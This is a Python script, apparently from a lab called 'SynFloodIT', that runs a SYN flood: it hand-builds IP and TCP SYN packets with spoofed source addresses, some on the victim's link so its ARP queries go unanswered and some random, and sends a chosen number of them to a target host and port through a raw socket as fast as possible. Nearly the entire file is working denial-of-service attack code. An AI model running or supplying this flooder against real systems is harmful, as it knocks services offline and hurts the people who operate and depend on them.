#!/usr/bin/env python3
"""SYN flood for SynFloodIT: COUNT TCP SYNs to DST:PORT from spoofed sources, as fast as a raw socket takes them.

Usage: synflood.py DST PORT COUNT SRC_PREFIX
Sources are SRC_PREFIX.x (x random, on the link: the victim asks ARP for them and nobody answers) and random
addresses off the link, with random ports and sequence numbers. Prints how many were sent.
"""
import random
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, port, count, prefix = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = socket.inet_aton(dst)
    rnd = random.Random(13)
    sent = 0
    for i in range(count):
        if i % 4 == 0:
            src = socket.inet_aton("%d.%d.%d.%d" % (rnd.randint(11, 99), rnd.randint(0, 255), rnd.randint(0, 255),
                                                     rnd.randint(1, 254)))
        else:
            src = socket.inet_aton("%s.%d" % (prefix, rnd.randint(150, 250)))
        try:
            s.sendto(syn(src, d, rnd.randint(1024, 65535), port, rnd.getrandbits(32)), (dst, 0))
            sent += 1
        except OSError:
            pass  # a full queue on our side: that SYN is lost, the next goes
    print("sent %d" % sent)


if __name__ == "__main__":
    main()
